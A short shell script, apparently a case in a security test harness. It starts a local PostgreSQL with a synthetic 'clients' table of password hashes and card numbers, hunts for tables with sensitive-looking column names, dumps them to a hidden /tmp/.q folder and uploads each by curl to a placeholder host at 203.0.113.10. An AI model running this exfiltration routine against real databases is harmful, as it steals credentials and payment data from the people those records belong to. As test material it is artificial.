#!/bin/sh
. /opt/case/case.sh

bin=$(ls -d /usr/lib/postgresql/*/bin)
mkdir -p /srv/pg /run/postgresql && chown postgres /srv/pg /run/postgresql
as() { setpriv --reuid postgres --regid postgres --init-groups env HOME=/srv/pg PGHOST=/run/postgresql "$@"; }
as "$bin/initdb" -A trust -D /srv/pg/d >/dev/null
as "$bin/pg_ctl" -D /srv/pg/d -l /srv/pg/log -w start >/dev/null
as psql -qAt -c "create table clients as select i as id, md5(i::text) as password_hash, repeat('4', 16) as card_number from generate_series(1, 20000) i"
mkdir /tmp/.q
for t in $(psql -qAt -h 127.0.0.1 -U postgres -c "select distinct table_name from information_schema.columns where column_name ~* 'pass|card|token|secret|ssn|mail' and table_schema = 'public'"); do
    psql -qAt -h 127.0.0.1 -U postgres -c "\\copy $t to '/tmp/.q/$t.csv' csv"
    curl -sf -T /tmp/.q/$t.csv http://203.0.113.10:8080/$t >/dev/null
done
test -s /tmp/.q/clients.csv
as "$bin/pg_ctl" -D /srv/pg/d -m fast -w stop >/dev/null
took_place
